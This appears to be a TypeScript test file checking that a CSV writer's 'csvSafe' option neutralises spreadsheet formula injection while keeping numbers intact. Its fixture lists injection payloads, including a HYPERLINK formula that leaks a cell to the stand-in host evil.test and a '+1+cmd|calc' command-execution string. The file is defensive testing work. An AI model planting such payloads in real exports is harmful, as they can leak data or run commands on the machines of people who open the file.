import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { csvSafe, openStore } from '../../src/store/index.ts';
import { failure, file, HOW, result, store } from './example.ts';

const BODIES: ReadonlyArray<readonly [body: string, cell: string]> = [
  ['=HYPERLINK("http://evil.test/?"&A1,"ok")', `'=HYPERLINK("http://evil.test/?"&A1,"ok")`],
  ['+1+cmd|calc', "'+1+cmd|calc"],
  ['-2+3', "'-2+3"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['\t=1', "'\t=1"],
  ['\r=1', "'\r=1"],
  ['\n=1', "'\n=1"],
  ['＝1+1', "'＝1+1"],
  ['-5', '-5'],
  ['-1.5e-3', '-1.5e-3'],
  ['+49 30 1234', "'+49 30 1234"],
  ['a=b', 'a=b'],
  ["'=already", "'=already"],
  ['', ''],
];

function cellsOf(path: string): Record<string, string>[] {
  return parse(readFileSync(path, 'utf8'), { columns: true });
}

test('with csvSafe no cell of CSV is a formula, and numbers stay numbers', async () => {
  const path = file('out.csv');
  const results = BODIES.map(([body], index) => result({ index, body: Buffer.from(body) }));
  await store(path, results, { csvSafe: true });
  const rows = cellsOf(path);
  assert.deepEqual(
    rows.map(({ body }) => body),
    BODIES.map(([, cell]) => cell),
  );
  assert.deepEqual([rows[0]!.index, rows[0]!.status, rows[0]!.waitMs], ['0', '200', '0.123']);
  assert.equal(rows[0]!.headers, '{"content-type":"text/plain"}');
});

test('without csvSafe, and in JSON Lines, cells stay as they came', async () => {
  const [plain, lines] = [file('out.csv'), file('out.jsonl')];
  const one = result({ body: Buffer.from('=1+1') });
  await store(plain, [one]);
  await store(lines, [one], { csvSafe: true });
  assert.equal(cellsOf(plain)[0]!.body, '=1+1');
  assert.equal(JSON.parse(readFileSync(lines, 'utf8')).body, '=1+1');
});

test('an input that looks like a formula is the same input when an output is resumed', async () => {
  const path = file('out.csv');
  await store(path, [{ ...failure(0), input: '=1+1' }], { csvSafe: true });
  const again = await openStore(path, { ...HOW, mode: 'resume', csvSafe: true });
  await again.close();
  assert.equal(again.inputs.get(0), csvSafe('=1+1'));
});
